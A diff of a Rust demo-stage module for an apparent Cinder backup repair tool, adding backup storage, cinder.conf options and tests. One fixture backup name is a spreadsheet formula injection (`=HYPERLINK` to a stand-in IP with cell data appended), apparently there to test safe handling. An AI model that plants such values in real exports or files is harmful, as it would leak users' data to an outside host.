@@ -1,4 +1,5 @@
-//! The files that the demo plays on: a folder with a Cinder database, a cinder.conf, and whatever the commands write.
+//! The files that the demo plays on: a folder with a Cinder database, a backup storage, a cinder.conf, and whatever the commands
+//! write.
 //!
 //! Beside `db` this is the one place that uses rusqlite, and the only one that creates a database: what happens behind the
 //! program's back (a service that beats, a colleague who writes by hand) must not go through its own sessions.
@@ -12,6 +13,7 @@ use std::path::{Path, PathBuf};
 use rusqlite::{Connection, OpenFlags};
 use tempfile::TempDir;
 
+use super::store;
 use crate::cli::error::{Error, Result};
 use crate::cli::exit::Exit;
 use crate::config::{DatabaseSettings, Origin, Target};
@@ -20,12 +22,14 @@ const SCHEMA: &str = include_str!("../../../../sql/demo/schema.sql");
 const ROWS: &str = include_str!("../../../../sql/demo/rows.sql");
 const HEARTBEAT: &str = include_str!("../../../../sql/demo/heartbeat.sql");
 const STATE: &str = include_str!("../../../../sql/demo/state.sql");
+const STORED: &str = include_str!("../../../../sql/demo/stored.sql");
 /// What a colleague does by hand while a plan waits.
 pub const MEANWHILE: &str = include_str!("../../../../sql/demo/meanwhile.sql");
 
 const DATABASE: &str = "cinder.sqlite";
 const CONFIGURATION: &str = "cinder.conf";
 const AUDIT_LOG: &str = "audit.jsonl";
+const STORAGE: &str = "backup";
 
 /// Every row that a repair may touch, by table and id.
 pub type State = BTreeMap<(String, String), Row>;
@@ -65,13 +69,18 @@ impl Stage {
         let connection = create(&path).map_err(|error| failed(&error))?;
         let stage = Self { folder, temporary, connection };
         let configuration = format!(
-            "# What a controller has in /etc/cinder/cinder.conf, as far as this program reads it.\n\
-             [DEFAULT]\nservice_down_time = 60\n\n[database]\nconnection = {}\n",
+            "# What a controller has in /etc/cinder/cinder.conf, as far as it matters here.\n\
+             [DEFAULT]\nservice_down_time = 60\n\
+             backup_driver = cinder.backup.drivers.posix.PosixBackupDriver\nbackup_posix_path = {}\n\
+             backup_file_size = {}\nbackup_compression_algorithm = zstd\n\n[database]\nconnection = {}\n",
+            option(&stage.storage().display().to_string()),
+            store::CHUNK,
             stage.url()
         );
         let path = stage.configuration();
         fs::write(&path, configuration)
             .map_err(|error| Error::new(Exit::Unexpected, format!("cannot write {}: {error}", path.display())))?;
+        store::fill(&stage.storage(), &mut |id| stage.stored(id))?;
         Ok(stage)
     }
 
@@ -93,6 +102,11 @@ impl Stage {
     /// The demo's cinder.conf.
     pub fn configuration(&self) -> PathBuf {
         self.file(CONFIGURATION)
+    }
+
+    /// Where the demo's backups are.
+    pub fn storage(&self) -> PathBuf {
+        self.file(STORAGE)
     }
 
     /// The demo's audit log.
@@ -127,6 +141,21 @@ impl Stage {
         read().map_err(|error| self.failed(&error))
     }
 
+    /// What the files of a backup are made from.
+    pub fn stored(&self, id: &str) -> Result<store::Row> {
+        let row = self.connection.query_row(STORED, [id], |row| {
+            Ok(store::Row {
+                volume_id: row.get(0)?,
+                parent_id: row.get(1)?,
+                container: row.get(2)?,
+                prefix: row.get(3)?,
+                created_at: row.get(4)?,
+                size: row.get(5)?,
+            })
+        });
+        row.map_err(|error| self.failed(&error))
+    }
+
     /// Closes the database, and removes the folder unless it is to be kept.
     pub fn close(self) -> io::Result<()> {
         drop(self.connection);
@@ -155,6 +184,11 @@ fn kept_folder(keep: &Path) -> Result<PathBuf> {
     keep.canonicalize().map_err(|error| Error::usage(format!("--keep {shown}: {error}")))
 }
 
+/// A value as cinder.conf has it.
+fn option(value: &str) -> String {
+    value.replace('$', "$$")
+}
+
 fn create(path: &Path) -> rusqlite::Result<Connection> {
     let flags = OpenFlags::SQLITE_OPEN_READ_WRITE | OpenFlags::SQLITE_OPEN_CREATE | OpenFlags::SQLITE_OPEN_NO_MUTEX;
     let mut connection = Connection::open_with_flags(path, flags)?;
@@ -171,6 +205,7 @@ mod tests {
     use super::*;
     use crate::db::SessionSettings;
     use crate::domain::{Policy, Selection, Verdict};
+    use crate::format::names::Prefix;
 
     fn scanned(stage: &Stage) -> crate::scan::Scan {
         let mut session = crate::db::sqlite::open(&stage.file(DATABASE), &SessionSettings::default()).unwrap();
@@ -206,11 +241,13 @@ mod tests {
             ("=HYPERLINK(\"http://203.0.113.9/?\"&A1)", "service-down", stuck),
             ("build-cache", "no-active-backup", stuck),
             ("crm-db full", "counter-wrong", inconsistent),
+            ("dns-zones nightly", "service-up", Verdict::Uncertain),
             ("erp-db nightly", "service-down", stuck),
             ("files-stage2 nightly", "service-up", Verdict::Uncertain),
             ("git full", "service-down", stuck),
             ("hr-db nightly", "temporary-leftover", inconsistent),
             ("ldap-data nightly", "recent", Verdict::Recent),
+            ("ledger-db nightly", "service-down", stuck),
             ("mail-spool weekly", "service-down", stuck),
             ("portal-db increment 4", "parent-missing", inconsistent),
             ("portal-db weekly", "service-down", stuck),
@@ -220,7 +257,7 @@ mod tests {
         assert_eq!(found, expected);
         let notices: Vec<&str> = scan.document.notices.iter().map(|notice| notice.code.as_str()).collect();
         assert_eq!(notices, ["quota-wrong"]);
-        assert_eq!(scan.census.live, 80);
+        assert_eq!(scan.census.live, 83);
     }
 
     #[test]
@@ -237,7 +274,22 @@ mod tests {
         // SQLAlchemy reads no other spelling.
         let times = "SELECT count(*) FROM backups WHERE created_at NOT GLOB '????-??-?? ??:??:??.??????' OR created_at > strftime('%Y-%m-%d %H:%M:%f', 'now')";
         assert_eq!(one(times), 0);
-        assert_eq!(stage.state().unwrap().len(), 1_280 + 43 + 1);
+        assert_eq!(stage.state().unwrap().len(), 1_283 + 45 + 1);
+    }
+
+    #[test]
+    fn backups_lie_where_cinder_puts_them_and_are_as_old_as_their_rows() {
+        let stage = Stage::build(None).unwrap();
+        for (id, _) in store::earned() {
+            let row = stage.stored(id).unwrap();
+            assert_eq!(row.container, format!("{}/{}/{id}", &id[..2], &id[2..4]));
+            let prefix = Prefix::parse(&row.prefix).unwrap();
+            assert_eq!((prefix.volume_id, prefix.az, prefix.backup_id.as_str()), (row.volume_id, None, id));
+            for entry in fs::read_dir(stage.storage().join(&row.container)).unwrap() {
+                let age = entry.unwrap().metadata().unwrap().modified().unwrap().elapsed().unwrap();
+                assert!(age.as_secs() > 3 * 3_600, "{id} {age:?}");
+            }
+        }
     }
 
     #[test]
@@ -259,7 +311,11 @@ mod tests {
         assert!(error.error.to_string().contains("not empty"), "{}", error.error);
         let error = Stage::build(Some(&keep.join(DATABASE))).err().unwrap();
         assert_eq!(error.exit, Exit::Usage);
-        Stage::build(Some(&parent.path().join("odd % $ ? name"))).unwrap();
+        let stage = Stage::build(Some(&parent.path().join("odd % $ ? name"))).unwrap();
+        let flags = crate::config::DatabaseFlags { config_files: vec![stage.configuration()], ..Default::default() };
+        let (cinder, _) = crate::config::cinder_conf(&flags, &crate::config::Environment::default()).unwrap();
+        let options = crate::config::StorageOptions::new(cinder, &[]).unwrap();
+        assert_eq!(Path::new(&options.text("backup_posix_path").unwrap().unwrap().value), stage.storage());
     }
 
     #[test]
